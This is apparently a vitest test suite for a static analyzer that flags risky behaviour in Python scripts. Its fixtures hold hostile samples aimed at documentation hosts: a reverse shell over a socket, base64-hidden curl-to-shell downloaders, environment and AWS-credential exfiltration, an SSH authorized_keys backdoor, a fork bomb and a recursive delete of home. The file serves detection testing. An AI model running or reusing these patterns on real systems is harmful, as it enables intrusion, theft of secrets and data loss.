import { beforeAll, describe, expect, it } from 'vitest';
import type { Fact, Unit } from '../../facts.js';
import { type Grammar, loadGrammar } from '../../load-grammars.js';
import { shellFacts } from '../index.js';
import { pythonExtractor } from './extract-python-facts.js';

/** Documentation addresses (RFC 5737) and example domains: nothing here is ever run. */
const HOST = '203.0.113.9';
const b64 = (text: string): string => Buffer.from(text).toString('base64');

type Partial = Record<string, unknown>;
const proc = (program: string, extra: Partial = {}): Partial => ({ kind: 'process', program, ...extra });
const net = (op: string, extra: Partial = {}): Partial => ({ kind: 'network', op, ...extra });
const file = (op: string, path: string, extra: Partial = {}): Partial => ({
  kind: 'file',
  op,
  path,
  ...extra,
});
const exec = (api: string, extra: Partial = {}): Partial => ({ kind: 'exec', api, ...extra });

let python: Grammar;
let shell: Grammar;
beforeAll(async () => {
  [python, shell] = await Promise.all([loadGrammar('python'), loadGrammar('shell')]);
});

function extract(text: string, files: Record<string, string> = {}, inPackage = 'scripts/x.py'): Fact[] {
  const unit: Unit = {
    file: inPackage,
    inPackage,
    language: 'python',
    surface: 'script',
    text,
    firstLine: 1,
  };
  return pythonExtractor.extract(unit, python, {
    shell: (command, line, taint) => shellFacts(unit, command, line, taint, shell),
    packageFile: (path) => files[path],
  });
}

function check(
  source: string,
  present: Partial[],
  absent: Partial[] = [],
  files?: Record<string, string>,
): void {
  const facts = extract(source, files);
  for (const p of present) expect(facts, JSON.stringify(p)).toContainEqual(expect.objectContaining(p));
  for (const a of absent)
    expect(facts, `absent ${JSON.stringify(a)}`).not.toContainEqual(expect.objectContaining(a));
}

/** [description, script, facts that must be there, facts that must not]. */
type Case = [string, string, Partial[], Partial[]?];

const CASES: Record<string, Case[]> = {
  'names resolved through imports and aliases': [
    [
      'module alias and from-import alias',
      'import subprocess as sp\nfrom os import system as s\nsp.run(["curl", "-s", "https://x.example/a"])\ns("id")\n',
      [proc('curl', { line: 3 }), proc('id', { line: 4 })],
    ],
    [
      '__import__ and importlib by a joined name',
      'import importlib\no = __import__("o" + "s")\nimportlib.import_module("subprocess").call(["whoami"])\no.system("uname -a")\n',
      [proc('whoami'), proc('uname')],
    ],
    [
      'getattr with a built name hides the launcher',
      'import os\ngetattr(os, "sys" + "tem")("id > /tmp/o")\n',
      [proc('id', { obfuscated: 'split' })],
    ],
    [
      'the builtins table looked up by pieces',
      'import codecs\nrunner = vars(__builtins__)["ex" + "ec"]\nrunner(codecs.decode("cevag(1)", "rot13"))\n',
      [exec('exec', { input: ['decoded'], code: 'print(1)' })],
    ],
  ],
  'values followed through helpers and strings': [
    [
      'a helper parameter fetched and executed',
      `import requests\ndef load(url):\n    code = requests.get(url).text\n    exec(code)\nload("https://${HOST}/p.py")\n`,
      [net('fetch', { target: `https://${HOST}/p.py` }), exec('exec', { input: ['network'] })],
    ],
    [
      'f-strings, format and join build a URL',
      'import requests\nh = ".".join(["api", "example", "com"])\np = "{}/{}".format("v1", "x")\nrequests.get(f"https://{h}/{p}")\n',
      [net('fetch', { target: 'https://api.example.com/v1/x' })],
    ],
    [
      'a method of a class called on an instance',
      'import subprocess, os\nclass J:\n    def purge(self, t):\n        subprocess.run(["rm", "-rf", str(t)])\nJ().purge(os.path.expanduser("~"))\n',
      [file('delete', '~', { recursive: true })],
    ],
  ],
  'decoders and decoded code read again': [
    [
      'exec of base64 runs the decoded program, read as Python',
      `import base64\nexec(base64.b64decode("${b64(`import os\nos.system("curl -s http://${HOST}/s | sh")`)}"))\n`,
      [exec('exec', { input: ['decoded'] }), proc('sh', { stdin: ['network'], line: 2 })],
    ],
    [
      'chr list, reversed text and hex',
      'import os\nos.system("".join(chr(c) for c in [105, 100]))\nos.system("eman"[::-1])\nexec(bytes.fromhex("7072696e74283129"))\n',
      [
        exec('shell', { input: ['decoded'], code: 'id' }),
        exec('shell', { code: 'name' }),
        exec('exec', { code: 'print(1)' }),
      ],
    ],
    [
      'zlib behind base64',
      `import zlib, base64\nexec(zlib.decompress(base64.b64decode("eJwrKMrMK9Ew1AQADhUCsA==")))\n`,
      [exec('exec', { code: 'print(1)', input: ['decoded'] })],
    ],
  ],
  'network fetches and sends': [
    [
      'the environment posted to a webhook',
      'import os, json, requests\nrequests.post("https://hook.example.net/x", data=json.dumps(dict(os.environ)))\n',
      [net('send', { sends: ['environment'] }), { kind: 'env', op: 'dump' }],
    ],
    [
      'a credential file sent over a socket',
      `import socket, os\ns = socket.create_connection(("${HOST}", 7000))\ns.sendall(open(os.path.expanduser("~/.aws/credentials")).read().encode())\n`,
      [
        net('connect', { target: `${HOST}:7000` }),
        net('send', { sends: ['sensitive-file'] }),
        file('read', '~/.aws/credentials'),
      ],
    ],
    [
      'a token read by name and sent as its own Authorization header',
      'import os, requests\ntok = os.environ["GITHUB_TOKEN"]\nrequests.get("https://api.github.com/user", headers={"Authorization": f"Bearer {tok}"})\n',
      [
        net('fetch', { authHeader: true, sends: ['secret'] }),
        { kind: 'env', op: 'read', name: 'GITHUB_TOKEN' },
      ],
    ],
    [
      'the clipboard posted, the environment printed variable by variable',
      'import os, pyperclip, requests\nfor k, v in os.environ.items():\n    print(k, v)\nrequests.post("https://x.example/c", data=pyperclip.paste())\n',
      [net('send', { sends: ['user-data'] }), { kind: 'env', op: 'dump', line: 3 }],
    ],
    [
      'http.client and smtplib sends',
      'import http.client, smtplib\nc = http.client.HTTPSConnection("relay.example.net")\nc.request("POST", "/in", "x")\nsmtplib.SMTP("mail.example.net").sendmail("a", "b", "c")\n',
      [net('send', { target: 'relay.example.net/in' }), net('send', { api: 'smtplib.sendmail' })],
    ],
  ],
  'processes, shells and sockets': [
    [
      'dup2 of a socket then pty.spawn is a shell on the socket',
      `import socket, os, pty\ns = socket.socket()\ns.connect(("${HOST}", 4444))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn("/bin/bash")\n`,
      [proc('bash', { socketStdio: true }), net('connect', { target: `${HOST}:4444` })],
    ],
    [
      'a command line built from input is a shell exec',
      'import os, sys\nos.system("convert " + sys.argv[1] + " out.png")\n',
      [exec('shell', { input: [] }), proc('convert')],
    ],
    [
      'a literal shell pipeline is read by the shell extractor',
      `import subprocess\nsubprocess.run("curl -s https://${HOST}/i | bash", shell=True)\n`,
      [proc('bash', { stdin: ['network'] })],
      [{ kind: 'exec', api: 'shell' }],
    ],
    [
      'jobs fed to crontab on standard input',
      'import subprocess\nsubprocess.run(["crontab", "-"], input="* * * * * id\\n")\n',
      [file('write', '/var/spool/cron/crontabs/$USER', { contentText: '* * * * * id\n' })],
    ],
  ],
  'files, environment, deserialization and loops': [
    [
      'authorized_keys appended with the key as content',
      'import os\nwith open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as f:\n    f.write("ssh-ed25519 AAAA x@y\\n")\n',
      [file('append', '~/.ssh/authorized_keys', { contentText: 'ssh-ed25519 AAAA x@y\n' })],
    ],
    [
      'pathlib joins and reads',
      'from pathlib import Path\nkey = (Path.home() / ".ssh" / "id_rsa").read_text()\n',
      [file('read', '~/.ssh/id_rsa', { content: ['sensitive-file'] })],
    ],
    [
      'chmod modes as octal digits',
      'import os\nos.chmod("/tmp/x", 0o777)\n',
      [file('chmod', '/tmp/x', { mode: '777' })],
    ],
    [
      'downloaded pickle and unsafe yaml',
      'import pickle, requests, yaml\npickle.loads(requests.get("https://m.example.net/m").content)\nyaml.load(open("c.yml"), Loader=yaml.Loader)\n',
      [
        { kind: 'deserialize', api: 'pickle.loads', input: ['network'] },
        { kind: 'deserialize', api: 'yaml.load', source: 'c.yml' },
      ],
    ],
    [
      'fork in an endless loop',
      'import os\nwhile True:\n    os.fork()\n',
      [{ kind: 'loop', endless: true, forks: true }],
    ],
    [
      'the script started again from an endless loop',
      'import subprocess, sys\nwhile True:\n    subprocess.Popen([sys.executable, __file__])\n',
      [proc('python3', { runsSelf: true, inEndlessLoop: true }), { kind: 'loop', forks: true }],
    ],
  ],
  'benign look-alikes': [
    [
      'safe yaml, literal_eval and json',
      'import yaml, ast, json, sys\nyaml.safe_load(open("c.yml"))\nyaml.load(open("c.yml"), Loader=yaml.SafeLoader)\nast.literal_eval(sys.argv[1])\njson.load(open("c.json"))\n',
      [],
      [{ kind: 'deserialize' }, { kind: 'exec' }],
    ],
    [
      'one variable read, the environment passed to a child',
      'import os, subprocess\nprint(os.environ.get("HOME"))\nsubprocess.run(["tool"], env={**os.environ, "X": "1"})\n',
      [proc('tool')],
      [{ kind: 'env', op: 'dump' }, { kind: 'exec' }],
    ],
    [
      'the environment filtered to the tool prefix',
      'import os, requests\ncfg = {k: v for k, v in os.environ.items() if k.startswith("MYTOOL_")}\nrequests.post("https://api.example.com/run", json=cfg)\n',
      [net('send', { sends: [] })],
      [{ kind: 'env', op: 'dump' }],
    ],
    [
      'a bounded loop and a poll loop',
      'import time, subprocess\nfor i in range(3):\n    subprocess.Popen(["worker"])\nwhile True:\n    time.sleep(5)\n',
      [
        { kind: 'loop', iterations: 3, spawns: true },
        { kind: 'loop', endless: true, spawns: false, fills: false },
      ],
    ],
    [
      'a supervisor that waits for each copy it restarts',
      'import subprocess, sys\nwhile True:\n    subprocess.Popen([sys.executable, __file__, "--child"]).wait()\n',
      [proc('python3', { runsSelf: true, background: false }), { kind: 'loop', endless: true, forks: false }],
    ],
    [
      'public key read and rm of a temp dir',
      'import subprocess, tempfile\nd = tempfile.mkdtemp()\nsubprocess.run(["rm", "-rf", d])\nopen("/home/u/.ssh/id_rsa.pub").read()\n',
      [file('delete', '$TMPDIR', { recursive: true })],
      [{ kind: 'file', op: 'read', content: ['sensitive-file'] }],
    ],
  ],
};

describe('Python facts', () => {
  for (const [group, cases] of Object.entries(CASES)) {
    describe(group, () => {
      it.each(cases)('%s', (_name, source, present, absent) => check(source, present, absent));
    });
  }

  it('follows a helper defined in a sibling module of the package', () => {
    const files = {
      'tool/keys.py':
        'import os\n\ndef load():\n    return open(os.path.expanduser("~/.ssh/id_ed25519")).read()\n',
      'tool/upload.py':
        'import requests\n\ndef push(body):\n    requests.post("https://sync.example.org/in", data=body)\n',
    };
    const facts = extract(
      'from . import keys, upload\n\nupload.push(keys.load())\n',
      files,
      'tool/__main__.py',
    );
    expect(facts).toContainEqual(
      expect.objectContaining(net('send', { sends: ['sensitive-file'], line: 3 })),
    );
  });
});

describe('hostile Python', () => {
  it('survives deep nesting and broken syntax', () => {
    expect(() => extract(`x = ${'('.repeat(5000)}1${')'.repeat(5000)}\n`)).not.toThrow();
    expect(() => extract(`${'['.repeat(3000)}\ndef (:\n  os.system(\n`)).not.toThrow();
  });

  it('stops at mutual recursion and decoded code that decodes itself again', () => {
    const recursion =
      'import os\ndef a(x):\n    b(x + "1")\n    os.system(x)\ndef b(x):\n    a(x + "2")\na("echo")\n';
    expect(extract(recursion).some((f) => f.kind === 'exec' || f.kind === 'process')).toBe(true);
    let payload = 'print(1)';
    for (let i = 0; i < 20; i++) payload = `import base64\nexec(base64.b64decode("${b64(payload)}"))`;
    expect(extract(payload).filter((f) => f.kind === 'exec').length).toBeLessThan(10);
  });

  it('keeps a zip bomb and long alternatives bounded', () => {
    const many = Array.from({ length: 40 }, (_, i) => `"p${i}"`).join(', ');
    const facts = extract(
      `import os\nfor a in [${many}]:\n    for b in [${many}]:\n        os.remove(a + b)\n`,
    );
    expect(facts.filter((f) => f.kind === 'file').length).toBeLessThanOrEqual(16);
  });

  it('hands a bounded number of command lines to the shell', () => {
    const items = Array.from({ length: 4000 }, (_, i) => `"gzip f${i}"`).join(', ');
    const facts = extract(`import os\n[os.system(c) for c in [${items}]]\n`);
    const processes = facts.filter((f) => f.kind === 'process').length;
    expect(processes).toBeGreaterThan(0);
    expect(processes).toBeLessThanOrEqual(512);
  });

  it('reads helper chains with a bounded number of helper calls', () => {
    const helpers = Array.from(
      { length: 300 },
      (_, i) => `def h${i}(x):\n    return h${i + 1}(x) + h${i + 1}(x)\n`,
    ).join('');
    // An exponential walk would not finish within the test timeout.
    const facts = extract(`${helpers}def h300(x):\n    return x\nimport os\nos.system(h0("a"))\n`);
    expect(facts.some((f) => f.kind === 'exec')).toBe(true);
  });
});
